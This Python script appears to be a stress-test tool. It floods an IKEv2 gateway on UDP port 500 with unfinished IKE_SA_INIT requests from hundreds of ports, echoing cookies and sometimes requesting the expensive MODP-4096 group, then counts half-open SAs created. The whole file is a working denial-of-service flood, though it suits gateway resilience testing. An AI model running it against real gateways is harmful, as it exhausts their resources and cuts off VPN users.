#!/usr/bin/env python3
# SPDX-License-Identifier: BSD-3-Clause
"""One host that calls a gateway from many ports, gives cookies back, and never goes on; one call in 64 wants the costly
group MODP-4096. Prints calls, cookies given back, and answers that made a half-open SA."""
import argparse
import os
import selectors
import socket
import time

from ike_caller import MODP_4096, X25519, cookie_of, init_request


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("target")
    parser.add_argument("source")
    parser.add_argument("--seconds", type=float, default=10)
    parser.add_argument("--rate", type=float, default=400, help="calls a second")
    parser.add_argument("--ports", type=int, default=400)
    options = parser.parse_args()
    sockets, poll = [], selectors.DefaultSelector()
    for _ in range(options.ports):
        sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        sock.bind((options.source, 0))
        sock.connect((options.target, 500))
        sock.setblocking(False)
        sockets.append(sock)
        poll.register(sock, selectors.EVENT_READ)
    # group and public value, by the last byte of the SPI
    costly = (MODP_4096, b"\x7f" + os.urandom(511))
    cheap = (X25519, b"\x07" + os.urandom(31))
    nonce = os.urandom(32)
    sent = cookies = answers = 0

    def request(spi, cookie=None):
        return init_request(spi, nonce, *(costly if spi[7] % 64 == 0 else cheap), cookie)

    def receive(sock):
        nonlocal cookies, answers
        answer = sock.recv(8192)
        cookie = cookie_of(answer)
        if cookie is not None:
            cookies += 1
            sock.send(request(answer[:8], cookie))
        else:
            answers += answer[8:16] != bytes(8)

    began = time.monotonic()
    while time.monotonic() - began < options.seconds:
        while sent < options.rate * (time.monotonic() - began):
            try:
                sockets[sent % len(sockets)].send(request(os.urandom(8)))
            except OSError:
                pass
            sent += 1
        for key, _ in poll.select(0.002):
            try:
                receive(key.fileobj)
            except OSError:
                pass
    print(sent, cookies, answers)


if __name__ == "__main__":
    main()
